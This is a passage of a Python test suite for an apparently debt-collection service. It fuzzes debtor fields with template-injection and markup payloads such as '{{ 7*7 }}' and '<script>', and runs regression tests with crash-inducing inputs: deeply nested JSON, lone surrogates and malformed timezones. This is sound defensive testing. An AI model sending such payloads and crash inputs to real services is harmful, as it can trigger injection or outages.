            yield f"{what}#{block}", escape, renderer.render_block(folder, request, block)
        elif suffix == LETTER_SUFFIX:
            yield what, typst_text, renderer.letter(request)[0]
        else:
            yield what, verbatim, renderer.render(folder, request, suffix, staff=folder == "tasks")


def marked(text: str) -> list[str]:
    """What stands between the markers, in order."""
    return [part.split(CLOSE, 1)[0] for part in text.split(OPEN)[1:]]


def payload_text() -> st.SearchStrategy[str]:
    """Payloads: the fixed injections, or text built of template and markup syntax."""
    syntax = st.sampled_from(["{{", "}}", "{%", "%}", "{#", "#}", "<", ">", "&", "'", '"', "7*7", " ", "x", "\\", "$"])
    built = st.lists(syntax | st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=12).map("".join)
    return (st.sampled_from(PAYLOADS) | built).filter(lambda text: OPEN not in text and CLOSE not in text)


TEMPLATE_TALLY = Tally("templates")


@DRILL_SETTINGS
@given(
    payload=payload_text(),
    # Not the contract's interest `reference_name`: no template shows it (letters show the policy's terms).
    target=st.sampled_from(("name", "contract_ref")),
    locale=st.sampled_from(("en", "zh-CN")),
    segment=st.sampled_from(("standard", "important", "high_risk", "commercial")),
)
def test_templates_never_evaluate_debtor_content(payload: str, target: str, locale: str, segment: str) -> None:
    """Every template of the ladder, as the planner asks for it, with template syntax and markup in debtor fields:
    verbatim in text, escaped in HTML and in letters' Typst, never compiled. (If `{{ 7*7 }}` were evaluated, `49`
    would stand between the markers; if `<script>` went through, it would stand there unescaped.)"""
    content = f"{OPEN}{payload}{CLOSE}"
    data = event_dict(occurred_at=NOW, timezone="UTC", locale=locale, segment=segment)
    if target == "name":
        data["debtor"]["name"] = content
    else:
        data["invoice"]["contract_ref"] = content
    event = InvoiceOverdue.model_validate(data)  # every payload fits the field: the contract takes it
    state = AccountState(workflow_id=workflow_id("DRILL"), account_id="DRILL", policy=BOOK.for_segment(segment))
    state.add_invoice(event, event.occurred_at)
    ladder = simulate(state, event.occurred_at, event.occurred_at + timedelta(days=400)).requests
    assert ladder, "the ladder ran"

    renderer = example_renderer()  # a fresh one, so that every template is compiled here and recorded
    compiled: list[str] = []
    for env in (renderer.env, renderer.typst):

        def recording_compile(source: str, *args: Any, real: Callable = env.compile, **kwargs: Any) -> Any:
            compiled.append(source)
            return real(source, *args, **kwargs)

        env.compile = recording_compile  # type: ignore[method-assign]
    shown = 0
    for request in ladder:
        for what, escape, text in render_all(renderer, request):
            assert text.count(OPEN) == text.count(CLOSE), f"{what}: debtor content cut or broken: {text[:500]}"
            expected = escape(payload)
            for found in marked(text):
                assert found == expected, f"{what} made {found!r} of {payload!r}"
                shown += 1
    assert compiled and not any(OPEN in source for source in compiled), "debtor content was compiled as a template"
    assert shown, f"no template showed the {target}: the check above proved nothing"
    TEMPLATE_TALLY.count([])
    TEMPLATE_TALLY.results[f"{target} shown"] += shown


# --- 4. the crashes the first run found, fixed: regression tests ----------------------------------------------------


def _with(path: FieldPath, value: Any) -> Callable[[dict], None]:
    return lambda data: _set(data, path, value)


KNOWN_CRASHES = {
    # zoneinfo raises IsADirectoryError / OSError(ENAMETOOLONG) for these; Debtor._known_timezone catches only
    # ZoneInfoNotFoundError and ValueError, so the OSError escapes validation.
    "timezone_is_a_tzdata_folder": _with(("debtor", "timezone"), "Asia"),
    "timezone_too_long": _with(("debtor", "timezone"), "x" * 300),
    # InvoiceOverdue._due_before_occurrence: occurred_at.astimezone(...) raises OverflowError at the calendar's edge.
    "occurred_at_at_the_end_of_time": _with(("occurred_at",), "9999-12-31T23:59:59-14:00"),
}
# Python's json (Line.label, api.events.split and _ids) raises RecursionError past ~1000 levels: an unknown field
# nested 100000 deep (written as text: json.dumps cannot write it either).
DEEP = "nested_100000_deep"
# A lone surrogate (valid JSON escape text, no valid Unicode): fine for pydantic, fatal for the output of the ids.
LONE_SURROGATE = "lone_surrogate_event_id"


def _crash_line(case: str, account: str) -> str:
    data = event_dict(account_id=account, event_id="E2", invoice_id="INV-2", occurred_at=NOW, timezone="UTC")
    if case == LONE_SURROGATE:
        return json.dumps(data).replace('"E2"', '"\\ud800"')
    if case == DEEP:
        return json.dumps(data)[:-1] + ', "x_deep": ' + "[" * 100_000 + "]" * 100_000 + "}"
    KNOWN_CRASHES[case](data)
    return json.dumps(data)


CRASH_CASES = [*KNOWN_CRASHES, DEEP, LONE_SURROGATE]


@pytest.mark.integration
@pytest.mark.parametrize("case", CRASH_CASES)
async def test_known_crash_through_starter_ingest(case: str, api: Api, tmp_path: Path) -> None:
    """Correct: the hostile line rejected with its reason in the rejects file, its valid neighbour started, exit 2."""
    good = api.event()
    source = tmp_path / "crash.jsonl"
    source.write_text(json.dumps(good) + "\n" + _crash_line(case, good["account_id"] + "-x") + "\n", encoding="utf-8")

    with strict_stdout():
        code = await starter.main(["ingest", str(source)], client=api.client)

    assert code == starter.EXIT_REJECTED
    rejects = [json.loads(line) for line in source.with_name("crash.rejects.jsonl").read_text().split("\n")[:-1]]
    assert [(r["line"], bool(r["reason"])) for r in rejects] == [(2, True)]
    assert [i["invoice_id"] for i in (await api.status(good["account_id"]))["invoices"]] == ["INV-1"]


@pytest.mark.integration
@pytest.mark.parametrize("as_json_lines", [False, True], ids=["array", "ndjson"])
@pytest.mark.parametrize("case", CRASH_CASES)
async def test_known_crash_through_the_api(case: str, as_json_lines: bool, api: Api) -> None:
    """200, the valid event started, the hostile one rejected with a reason (never a 500). A JSON array nested too
    deeply to parse at all is refused whole (422), and nothing of it is applied."""
    good = api.event()
    lines = [json.dumps(good), _crash_line(case, good["account_id"] + "-x")]
    if as_json_lines:
        body, content_type = "\n".join(lines), "application/x-ndjson"
    else:
        body, content_type = "[" + ",".join(lines) + "]", "application/json"

    response = await api.post("/v1/events", "ops", content=body.encode(), headers={"Content-Type": content_type})

    if case == DEEP and not as_json_lines:
        assert (response.status_code, response.json()["detail"]) == (422, "JSON nested too deeply")
        return
    assert response.status_code == 200, response.text[:300]
    assert [(r["line"], r["result"], bool(r["reason"])) for r in response.json()] == [
        (1, "started", False),
        (2, "rejected", True),
    ]


@pytest.mark.integration
@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85"], ids=["U+2028", "U+2029", "U+0085"])
async def test_json_lines_split_only_at_newlines(separator: str, api: Api) -> None:
    """One line, one result: a raw separator inside a string does not split it (the name is then refused whole, as a
    one-line text with a line separator in it)."""
    event = api.event(name=f"Debtor{separator}Ltd")
    body = json.dumps(event, ensure_ascii=False)  # what a sender writing UTF-8 JSON lines sends
    assert separator in body

    response = await api.post(
        "/v1/events", "ops", content=body.encode(), headers={"Content-Type": "application/x-ndjson"}
    )

    [result] = response.json()
    assert (result["line"], result["result"]) == (1, "rejected"), response.text[:300]
    assert result["reason"].startswith(f"debtor.name: control character {ord(separator):#06x}")
